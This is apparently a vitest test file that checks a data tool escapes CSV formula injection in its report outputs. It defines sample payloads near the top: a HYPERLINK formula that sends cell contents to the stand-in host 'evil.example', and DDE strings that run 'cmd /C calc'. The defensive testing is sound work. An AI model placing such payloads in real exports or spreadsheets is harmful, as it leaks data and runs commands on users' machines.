/**
 * CSV injection (OWASP): cells that a spreadsheet would run as a formula leave every CSV output
 * with a leading `'`; plain numbers stay numbers; quarantine.csv keeps the originals verbatim.
 * The outputs are parsed back with DuckDB's CSV reader, not ours.
 */
import { DuckDBInstance } from "@duckdb/node-api";
import { describe, expect, it } from "vitest";
import { csvField } from "../../src/reports/csv-field.js";
import { runToolOnFolder } from "../engine/folder-run.js";

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const DDE = "=cmd|' /C calc'!A0";
const AT = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS = "+1+1";
const MINUS = "-2+3";
const TAB = "\t=1+2";

async function parseCsv(path: string): Promise<(string | null)[][]> {
  const db = await DuckDBInstance.create(":memory:");
  const connection = await db.connect();
  const reader = await connection.runAndReadAll(
    `SELECT * FROM read_csv('${path}', header = false, all_varchar = true, delim = ',', quote = '"', escape = '"', strict_mode = false)`,
  );
  const rows = reader.getRowsJS() as (string | null)[][];
  connection.closeSync();
  return rows;
}

/** A spreadsheet runs a cell as a formula when it starts with one of these and is not a plain number. */
function live(cell: string | null): boolean {
  return cell !== null && /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell);
}

async function runOn(toolId: "clean-my-data" | "master-my-data", csv: string, parameters: object) {
  const { manifest, path } = await runToolOnFolder({ toolId, fileName: "primary.csv", content: csv, parameters });
  const csvs: Record<string, (string | null)[][]> = {};
  for (const output of manifest.outputs)
    if (output.file_name.endsWith(".csv")) csvs[output.file_name] = await parseCsv(path(output.file_name));
  return csvs;
}

describe("CSV outputs neutralise formulas", () => {
  it("prefixes = + - @ tab and CR cells with ', quoting as RFC 4180 needs, and leaves plain numbers and text alone", () => {
    expect(csvField(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(csvField(DDE)).toBe(`'${DDE}`);
    expect(csvField(AT)).toBe(`'${AT}`);
    expect(csvField(PLUS)).toBe("'+1+1");
    expect(csvField(MINUS)).toBe("'-2+3");
    expect(csvField(TAB)).toBe(`'${TAB}`);
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
    expect(csvField("-A1")).toBe("'-A1");
    expect(csvField("=")).toBe("'=");
    for (const n of ["-12.5", "+3", "-1e5", "-0.25", "42", "-.5", "1,234"]) expect(csvField(n)).toBe(n.includes(",") ? `"${n}"` : n);
    for (const t of ["a=b", "user@example.com", "x-1", " =1"]) expect(csvField(t).replaceAll('"', "")).toBe(t);
    expect(csvField(null)).toBe("");
  });

  it("leaves no live formula in cleaned.csv, quarantine.csv or row_issues.csv, and keeps the originals in quarantine.csv", async () => {
    const csv = [
      "id,name,amount,note",
      `1,"${HYPERLINK.replaceAll('"', '""')}",-12.5,ok`,
      `2,Globex,10,${PLUS}`,
      `3,"${AT}",20,"${TAB}"`,
      // Quarantined: amount is not a number, and the name is a DDE payload.
      `4,${DDE},=1+1,${MINUS}`,
      "5,Initech,30,-7",
    ].join("\n");
    const csvs = await runOn("clean-my-data", csv, { "quarantine-agent": { declared_types: { amount: "float" } } });
    expect(Object.keys(csvs).sort()).toEqual(["cleaned.csv", "quarantine.csv", "row_issues.csv"]);
    for (const [name, rows] of Object.entries(csvs)) {
      for (const row of rows) for (const cell of row) expect(live(cell), `${name}: ${JSON.stringify(cell)}`).toBe(false);
    }
    const cleaned = csvs["cleaned.csv"];
    expect(cleaned[0].slice(0, 5)).toEqual(["source_row", "id", "name", "amount", "note"]);
    // Columns after source_row: id, name, amount, note.
    const byId = new Map(cleaned.slice(1).map((r) => [r[1], r]));
    expect(byId.get("1")?.slice(2, 4)).toEqual([`'${HYPERLINK}`, "-12.5"]);
    expect(byId.get("2")?.[4]).toBe(`'${PLUS}`);
    expect(byId.get("3")?.slice(2, 4)).toEqual([`'${AT}`, "20"]);
    expect(byId.get("5")?.[4]).toBe("-7");
    expect(byId.has("4")).toBe(false);

    const [header, quarantined] = csvs["quarantine.csv"];
    expect(header).toEqual([
      "source_row",
      "line_number",
      "id",
      "name",
      "amount",
      "note",
      "quarantine_reason",
      "raw_line",
      "original_values",
    ]);
    expect(quarantined.slice(0, 6)).toEqual(["4", "5", "4", `'${DDE}`, "'=1+1", `'${MINUS}`]);
    expect(JSON.parse(quarantined[8] as string)).toEqual({ name: DDE, amount: "=1+1", note: MINUS });

    const issueValues = csvs["row_issues.csv"].map((r) => r[7]);
    expect(issueValues).toContain("'=1+1");
  });

  it("leaves no live formula in golden_records.csv, crosswalk.csv or stewardship_queue.csv", async () => {
    const csv = [
      "customer_id,name,email,zip",
      `C1,"${HYPERLINK.replaceAll('"', '""')}",a@example.com,10001`,
      `C2,"${HYPERLINK.replaceAll('"', '""')}",a@example.com,10001`,
      `C3,${DDE},b@example.com,-5`,
      `=C4,${PLUS},c@example.com,20001`,
    ].join("\n");
    const csvs = await runOn("master-my-data", csv, {});
    expect(Object.keys(csvs)).toEqual(expect.arrayContaining(["golden_records.csv", "crosswalk.csv", "stewardship_queue.csv"]));
    for (const [name, rows] of Object.entries(csvs)) {
      for (const row of rows) for (const cell of row) expect(live(cell), `${name}: ${JSON.stringify(cell)}`).toBe(false);
    }
    const golden = csvs["golden_records.csv"].flat();
    expect(golden).toContain(`'${HYPERLINK}`);
    expect(golden).toContain(`'${DDE}`);
    expect(golden).toContain(`'${PLUS}`);
    expect(golden).toContain("'=C4");
    expect(golden).toContain("-5");
  });
});
